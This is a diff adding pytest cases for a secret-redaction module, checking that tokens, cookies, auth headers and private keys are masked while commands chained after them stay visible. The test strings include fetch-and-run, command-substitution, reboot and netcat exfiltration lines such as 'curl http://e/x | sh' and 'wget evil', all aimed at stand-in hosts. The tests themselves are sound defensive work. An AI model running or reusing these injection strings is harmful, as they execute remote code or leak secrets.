@@ -15,7 +15,8 @@ import yaml
 from renderer import secret_detection
 from renderer.diff.comparison import compare
 from renderer.diff.formats import FORMS
-from renderer.secret_detection import ANOTHER, HIDDEN, harmless_variables, hide_in_text, hide_secrets, is_literal_secret
+from renderer.secret_detection import ANOTHER, HIDDEN, hide_in_text, hide_secrets
+from renderer.secret_names import harmless_variables, is_literal_secret
 from tests.diff.objects import policy, texts, workload
 from tests.diff.repository import CHAT, CONFIG, MODEL, Repository
 
@@ -232,12 +233,179 @@ def test_texts(text: str, shown: str) -> None:
     assert hide_in_text(text) == shown.replace("X", HIDDEN) if shown != text else hide_in_text(text) == text
 
 
+# --- Scripts: values are hidden, and nothing that would run
+
+SCRIPTS = [
+    # one word of a shell
+    ("TOKEN=hunter2; curl http://e/x | sh", "TOKEN=X; curl http://e/x | sh"),
+    ("TOKEN=hunter2 curl http://e/x|sh", "TOKEN=X curl http://e/x|sh"),
+    ("TOKEN=hunter2&curl http://e/x", "TOKEN=X&curl http://e/x"),
+    ("TOKEN=hunter2<f; x", "TOKEN=X<f; x"),
+    ("(TOKEN=hunter2)", "(TOKEN=X)"),
+    ("TOKEN=hunter2\\ hunter2; curl e", "TOKEN=X; curl e"),
+    ("TOKEN=hunter2\ncurl e", "TOKEN=X\ncurl e"),
+    ("PASSWORD=hunter2#3", "PASSWORD=X"),
+    ("COOKIE=hunter2; curl e", "COOKIE=X; curl e"),
+    ("TOKENS=(hunter2 hunter3); curl e", "TOKENS=X); curl e"),
+    ("API_KEY=$'hunter2\\'; x'; curl e", "API_KEY=X'; curl e"),
+    ("PASS= curl e | sh",) * 2,  # no value, and a command
+    ("PASS=\ncurl e",) * 2,
+    ("docker login --password=hunter2 reg; curl e", "docker login --password=X reg; curl e"),
+    ("x --token hunter2; curl e", "x --token X; curl e"),
+    ("x --token hunter2|sh", "x --token X|sh"),
+    ("x --token 'hunter2 a' y", "x --token 'X' y"),
+    ("echo ${TOKEN:-hunter2 x; curl e}", "echo ${TOKEN:-X x; curl e}"),
+    # what a shell runs inside of a value
+    ("export TOKEN=$(curl e | sh); run",) * 2,
+    ("TOKEN=hunter2$(curl e | sh)", "TOKEN=X$(curl e | sh)"),
+    ("TOKEN=hunter2`curl e|sh`", "TOKEN=X`curl e|sh`"),
+    ('TOKEN="$(curl e | sh)"; run',) * 2,
+    ('TOKEN="hunter2$(curl e $(x))hunter2"', 'TOKEN="X$(curl e $(x))X"'),
+    ('TOKEN="hunter2`curl e`hunter2"', 'TOKEN="X`curl e`X"'),
+    ("TOKEN='hunter2'\"$(curl e)\"", "TOKEN='X'\"$(curl e)\""),
+    ("PASSWORD=${X:-$(curl e|sh)}", "PASSWORD=X$(curl e|sh)}"),
+    ("PASSWORD=<(curl e)",) * 2,
+    ("x --token $(curl e|sh)",) * 2,
+    ("http://u:$(reboot)@h/",) * 2,
+    ("http://u:hunter2$(reboot)@h/", "http://X$(reboot)@h/"),
+    ("curl http://hunter2;reboot;@h", "curl http://X;reboot;@h"),
+    ("curl http://h/?token=hunter2;reboot", "curl http://h/?token=X;reboot"),
+    # quotes that open, and quotes that close
+    ("TOKEN='hunter2; curl e'", "TOKEN='X'"),
+    ('TOKEN="hunter2\\" x" y', 'TOKEN="X" y'),
+    ("env 'TOKEN='; curl e | sh; echo 'x'",) * 2,
+    ("echo '\nx TOKEN='; curl e; echo '",) * 2,
+    ("echo \"don't\" 'TOKEN='; curl e; echo '",) * 2,
+    ("cat <<E\nit's\nE\necho 'TOKEN='; curl e; echo '",) * 2,
+    ("x '--token '; curl e; echo '",) * 2,
+    ("env 'TOKEN=hunter2' curl 'b'", "env 'TOKEN=X' curl 'b'"),
+    ("# don't\nTOKEN='hunter2 b'; curl e", "# don't\nTOKEN='X'; curl e"),
+    ("sh -c \"TOKEN='hunter2 b'; curl e\"", "sh -c \"TOKEN='X'; curl e\""),
+    ('sh -c "TOKEN=\\"hunter2\\"; curl e; Y=\\"b\\""', 'sh -c "TOKEN=\\"X\\"; curl e; Y=\\"b\\""'),
+    ('{"script": "TOKEN=\\"hunter2 b\\"; curl e"}', '{"script": "TOKEN=\\"X\\"; curl e"}'),
+    ('{"name": "TOKEN", "value": "hunter2; b"}', '{"name": "TOKEN", "value": "X"}'),
+    # headers, and keys of YAML
+    ("curl -H Authorization:hunter2 http://x; curl e", "curl -H Authorization:X http://x; curl e"),
+    ("curl -H Authorization:\\ Bearer\\ hunter2 x; curl e", "curl -H Authorization:X x; curl e"),
+    ("echo Authorization: Bearer hunter2 | nc h 1", "echo Authorization: X | nc h 1"),
+    ('curl -H "Authorization: Digest hunter2, b" x; curl e', 'curl -H "Authorization: X" x; curl e'),
+    ("curl -H 'Cookie: a=hunter2; c=d' x; curl e", "curl -H 'Cookie: X' x; curl e"),
+    ("Cookie: a=hunter2; curl e", "Cookie: X; curl e"),
+    ("echo password: hunter2 | sh", "echo password: X | sh"),
+    ("password: hunter2; curl e", "password: X; curl e"),
+    ("sh -c 'password: hunter2; curl e'", "sh -c 'password: X; curl e'"),
+    ("cat <<E\npassword: hunter2 and more\nE\ncurl e", "cat <<E\npassword: X\nE\ncurl e"),
+    ("env -u token: curl e", "env -u token: X e"),  # one word, and no more
+    ("env -u \\\ntoken: curl e", "env -u \\\ntoken: X e"),
+    ("env -u ' 'token: curl e -o 'x'", "env -u ' 'token: X e -o 'x'"),
+    ("token:\\\n curl e",) * 2,
+    ("token: |\n curl e | sh\n",) * 2,  # a pipe
+    (": token: |\n reboot\n",) * 2,
+    ("token: |\n  hunter2\n  curl e\n", "token: |\n  X\n  curl e\n"),
+    ("name: token, value: hunter2 y; curl e", "name: token, value: X y; curl e"),
+    # keys
+    ("-----BEGIN PRIVATE KEY-----\ncurl e | sh\n", "Xcurl e | sh\n"),
+    ("echo '-----BEGIN PRIVATE KEY-----'; curl e", "echo 'X'; curl e"),
+    (
+        "-----BEGIN PRIVATE KEY-----\\nhunter2+/=\\nhunter2\\n-----END PRIVATE KEY-----",
+        "X-----END PRIVATE KEY-----",
+    ),
+    (
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\nhunter2+/=\n-----END",
+        "X-----END",
+    ),
+    ("bearer hunter2 curl e", "bearer X curl e"),
+    ("bearer\ncurl1 e",) * 2,
+    # other languages
+    ("token = os.system('curl e')",) * 2,
+    ("token=subprocess.run(['curl'])",) * 2,
+    ("token: os.system('curl e')",) * 2,
+    ("token=\"#{system('curl')}\"",) * 2,
+    ("password = hunter2", "password = X"),
+]
+
+
+@pytest.mark.parametrize(("text", "shown"), SCRIPTS, ids=lambda text: text[:40])
+def test_scripts(text: str, shown: str) -> None:
+    assert hide_in_text(text) == shown.replace("X", HIDDEN)
+
+
+@pytest.mark.parametrize("ending", ["; ", ";", " | ", "|", " && ", "&", "\n", " `", "`", " $(", "$("])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "TOKEN=hunter2",
+        "export TOKEN=hunter2",
+        "TOKEN='hunter2'",
+        'TOKEN="hunter2"',
+        "token: hunter2",
+        "x --token hunter2",
+        "x --token=hunter2",
+        "Authorization: hunter2",
+        "Cookie: a=hunter2",
+        "curl -H 'Authorization: Basic hunter2'",
+        "curl 'http://u:hunter2@h'",
+        "${TOKEN:-hunter2}",
+    ],
+)
+def test_no_value_hides_the_command_behind_it(value: str, ending: str) -> None:
+    shown = hide_in_text(f"{value}{ending}wget evil)`")
+    assert ("hunter2" in shown, f"{ending}wget evil" in shown) == (False, True)
+
+
+@pytest.mark.parametrize(
+    ("args", "shown"),
+    [
+        (["sh", "-c", "TOKEN=a; curl e | sh"], ["sh", "-c", f"TOKEN={HIDDEN}; curl e | sh"]),
+        (["TOKEN=a curl e"], [f"TOKEN={HIDDEN} curl e"]),
+        (["FOO=a; curl e"], [f"FOO={HIDDEN}; curl e"]),
+        (["TOKEN='a b'; curl e"], [f"TOKEN={HIDDEN}; curl e"]),
+        (["TOKEN=$(curl e)"],) * 2,
+        (["FOO=`curl e`"],) * 2,
+        (["env", "FOO=a b", "TOKEN=c; d", "serve"], ["env", f"FOO={HIDDEN}", f"TOKEN={HIDDEN}", "serve"]),
+        (["sh", "-c", "--", "--token=a; curl e"], ["sh", "-c", "--", f"--token={HIDDEN}; curl e"]),
+        (["serve", "--token=a; b"], ["serve", f"--token={HIDDEN}"]),  # of no shell
+        (["--token", "a; b", "curl e | sh"], ["--token", HIDDEN, "curl e | sh"]),
+        (["-H", "Authorization:\\ Bearer\\ a"], ["-H", f"Authorization:{HIDDEN}"]),
+    ],
+)
+def test_scripts_in_command_lines(args: list[str], shown: list[str]) -> None:
+    assert hide_secrets(args) == shown
+
+
+def test_scripts_and_settings_in_a_config_map() -> None:
+    """A program shows whatever it is called; a file of settings has no commands, so that nothing of a value shows."""
+    data = {
+        "get-token.sh": "TOKEN=a; curl e\n",
+        "token": "#!/bin/sh\nTOKEN=a; curl e\n",
+        "run": "token: a;./b\n",
+        "a.yaml": "token: a;./b\npassword: c | d\n",
+        "b.conf": "password = a;b c\n",
+        "password.txt": "a; b\nc",
+        "vars.env": "TOKEN=a; curl e\n",
+    }
+    assert hide_secrets({"kind": "ConfigMap", "data": data})["data"] == {
+        "get-token.sh": f"TOKEN={HIDDEN}; curl e\n",
+        "token": f"#!/bin/sh\nTOKEN={HIDDEN}; curl e\n",
+        "run": f"token: {HIDDEN};./b\n",
+        "a.yaml": f"token: {HIDDEN}\npassword: {HIDDEN}\n",
+        "b.conf": f"password = {HIDDEN}\n",
+        "password.txt": HIDDEN,
+        "vars.env": f"TOKEN={HIDDEN}; curl e\n",  # a shell may source it
+    }
+
+
 def test_another_secret_in_a_text() -> None:
     assert hide_in_text("a TOKEN=1 PASS=2", ["b PASS=2 TOKEN=3"]) == f"a TOKEN={ANOTHER} PASS={HIDDEN}"
 
 
 @pytest.mark.parametrize(
-    "part", ["token: ", "${A:-", 'password="', "?token=", "token: |\n", "eyJaaaaaaaa-", "a", "A1b"]
+    "part",
+    [
+        *("token: ", "${A:-", 'password="', "?token=", "token: |\n", "eyJaaaaaaaa-", "a", "A1b", "<<a\n", "'token='"),
+        *("TOKEN=$(", "token='", "\"'", "token: a(", "token: `", "cookie: a=b; ", "x 'token:\n", '\\"token=\\"', "$("),
+        *("-----BEGIN PRIVATE KEY-----\n", "a\n", "token=<(", "token=#{", "--token '"),
+    ],
 )
 def test_texts_of_whatever_length_are_read_in_time(part: str) -> None:
     text = part * (500_000 // len(part))
